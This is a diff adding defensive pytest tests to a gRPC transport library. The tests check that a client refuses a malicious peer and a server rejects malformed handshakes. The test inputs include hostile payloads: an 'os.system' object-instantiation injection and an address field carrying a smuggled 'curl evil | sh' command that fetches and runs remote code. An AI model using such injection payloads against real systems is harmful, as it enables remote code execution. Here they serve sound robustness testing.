@@ -21,6 +21,7 @@ from test_grpc import LONG, STAR, close, frame, meeting, start
 from vertical_lightning.transport import door as doors
 from vertical_lightning.transport.credentials import Credentials
 from vertical_lightning.transport.door import Door
+from vertical_lightning.transport.failure import MeetingError, RefusedError
 from vertical_lightning.transport.grpc import Grpc
 from vertical_lightning.transport.grpc_options import METHOD, OPTIONS, SERVICE
 from vertical_lightning.transport.patience import Patience
@@ -142,3 +143,45 @@ def test_silent_streams_are_ended(door: Door, address: str) -> None:
     links = {name: start(Grpc(), name, address, ["alice", "carol", "bob"]) for name in ("alice", "carol")}
     inside = door.wait(Patience(meeting("bob", address)), LONG)
     close(inside, *(one.result(LONG) for one in links.values()))
+
+
+class LyingDoor(Door):
+    """Honest but for the book."""
+
+    book = b""
+
+    def _serve(self, incoming: Iterator[bytes], context: grpc.ServicerContext) -> Iterator[bytes]:
+        self._admit(incoming, context)
+        yield self.book
+
+
+@pytest.mark.parametrize(
+    "book",
+    [
+        b'{"missing": [], "book": {"bob": {"_target_": "os.system"}}}',
+        b'{"missing": [], "book": {"bob": "10.0.0.1:1; curl evil | sh"}}',
+        b'{"missing": []}',
+        b"[" * 100_000,
+        b"\xff",
+    ],
+    ids=["code", "no address", "nothing", "deep", "no text"],
+)
+def test_a_book_that_is_none(book: bytes, address: str) -> None:
+    lying = LyingDoor(meeting("bob", address), ["alice"], address, None)
+    lying.book = book
+    with pytest.raises(RefusedError, match="alice refuses what bob says at") as caught:
+        Grpc().connect(meeting("alice", address))
+    assert caught.value.party == "bob"
+    lying.close()
+
+
+@pytest.mark.parametrize("first", [b"[" * 100_000, b'{"party": {"_target_": "os.system"}}', b"\xff", b"x" * 2**20])
+def test_first_words_that_are_none(first: bytes, address: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The door turns them away in a sentence, and the honest party comes in afterwards."""
+    bob = start(Grpc(), "bob", address)
+    with monkeypatch.context() as changed:
+        changed.setattr("vertical_lightning.transport.dialer.hello", lambda *_: first)
+        with pytest.raises(MeetingError, match=r'bob at .* answers "bob at .* does not understand this version'):
+            Grpc().connect(meeting("alice", address))
+    assert not bob.done()
+    close(start(Grpc(), "alice", address).result(LONG), bob.result(LONG))
